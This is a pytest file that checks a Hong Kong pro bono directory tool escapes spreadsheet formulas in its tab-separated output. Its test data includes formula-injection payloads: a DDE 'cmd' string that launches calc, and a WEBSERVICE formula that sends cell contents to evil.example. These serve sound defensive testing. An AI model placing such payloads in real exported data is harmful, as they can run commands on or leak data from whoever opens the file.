"""render/tsv.py, --plain: tab-separated, slug first, and formula-safe.

A cell that a spreadsheet would run as a formula (=, +, -, @, tab, carriage return, full-width
forms), phone numbers included, starts with an apostrophe, and dropping one leading apostrophe
gives the data back exactly. Before (issue 26): `+852+cmd|' /C calc'!A0` in a label or note
passed as a phone number."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from conftest import DATA_DIR, HOSTILE, Invoke
from hkprobono.content import directory, guide, search
from hkprobono.render.tsv import cell
from hkprobono.text import one_line


def test_plain_output_is_tab_separated_slug_first(invoke: Invoke) -> None:
    lines = invoke("search", "food", "--plain").stdout.splitlines()
    assert lines and all(len(line.split("\t")) == len(search.COLUMNS) for line in lines)
    assert lines[0].split("\t")[0] in {"bvf", "iss-hk", "refugee-union"}
    rows = [line.split("\t") for line in invoke("list", "--plain").stdout.splitlines()]
    assert rows[0][:3] == ["justice-centre", "Justice Centre Hong Kong", "unconfirmed"]
    assert all(len(r) == len(directory.ORGANISATION_COLUMNS) for r in rows)
    steps = [line.split("\t") for line in invoke("usm", "steps", "--plain").stdout.splitlines()]
    assert all(len(s) == len(guide.STEP_COLUMNS) for s in steps)
    assert steps[7][:2] == ["8", "procedure"] and steps[7][3].startswith("14 days")


def test_tsv_cells_a_spreadsheet_would_run_start_with_an_apostrophe(invoke: Invoke, unchecked: None) -> None:
    rows = [line.split("\t") for line in invoke("--data", HOSTILE, "list", "--plain").stdout.splitlines()]
    gamma = next(r for r in rows if r[0] == "gamma-formula")
    assert gamma[1].startswith("'=HYPERLINK(")
    alpha = next(r for r in rows if r[0] == "alpha-legal")
    assert alpha[4].startswith("'+852 2345 6789")  # a phone too: "+852+cmd|..." must not pass as one
    from hkprobono.render.tsv import cell

    for text in ("=1+1", "+SUM(A1)", "-2+3", "@cmd", '=HYPERLINK("x")', "+852 2345 6789", "'quoted"):
        assert cell(text) == "'" + text
    assert cell("plain") == "plain"


PAYLOADS = [
    "+852+cmd|' /C calc'!A0",
    '+852+WEBSERVICE("https://evil.example/?"&A1)',
    '=HYPERLINK("https://evil.example","click")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\uff1d1+1",  # full-width equals sign
    "\uff0b852 2345 6789",
    "'=already quoted",
]


def undo(value: str) -> str:
    """What the README tells a program to do: drop one leading apostrophe."""
    return value[1:] if value.startswith("'") else value


RISKY = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_a_spreadsheet_would_run_is_opened_with_an_apostrophe(payload: str) -> None:
    written = cell(payload)
    assert written.startswith("'") and undo(written) == payload


def test_a_phone_number_is_a_phone_number_after_the_documented_undo() -> None:
    assert cell("+852 9828 7176") == "'+852 9828 7176"
    assert undo(cell("+852 9828 7176")) == "+852 9828 7176"
    assert cell("plain text") == "plain text" and cell("") == "" and cell(42) == "42"


@pytest.mark.slow
@settings(max_examples=400, deadline=None)
@given(st.text(max_size=60))
def test_any_cell_is_safe_and_undone_exactly(text: str) -> None:
    written = cell(text)
    assert "\t" not in written and "\n" not in written and "\r" not in written
    assert not written.startswith(RISKY)  # a risky start is always behind an apostrophe
    assert undo(written) == one_line(text).replace("\t", " ")


@pytest.fixture
def payload_file(tmp_path: Path) -> Path:
    text = (DATA_DIR / "minimal.toml").read_text(encoding="utf-8")
    text = text.replace('name = "Alpha Legal Aid"', "name = \"+852+cmd|' /C calc'!A0\"")
    text = text.replace('label = "Legal"', 'label = "=HYPERLINK(\\"https://evil.example\\")"')
    text = text.replace('keywords = ["lawyer", "appeal"]', 'keywords = ["lawyer", "appeal", "@SUM(calc)"]')
    path = tmp_path / "payload.toml"
    path.write_text(text, encoding="utf-8")
    return path


@pytest.mark.parametrize(
    "args", [["list", "--plain"], ["search", "calc", "--plain"], ["search", "lawyer", "--plain"]], ids=" ".join
)
def test_payloads_in_the_data_never_start_a_plain_cell(invoke: Invoke, payload_file: Path, args: list[str]) -> None:
    result = invoke("--data", str(payload_file), *args)
    assert result.exit_code == 0, result.output
    cells = [c for line in result.stdout.splitlines() for c in line.split("\t")]
    assert "'+852+cmd|' /C calc'!A0" in cells
    assert not [c for c in cells if c.startswith(RISKY)]
    if args[0] == "list":
        assert "'+852 2345 6789" in cells  # the phone, behind the same apostrophe
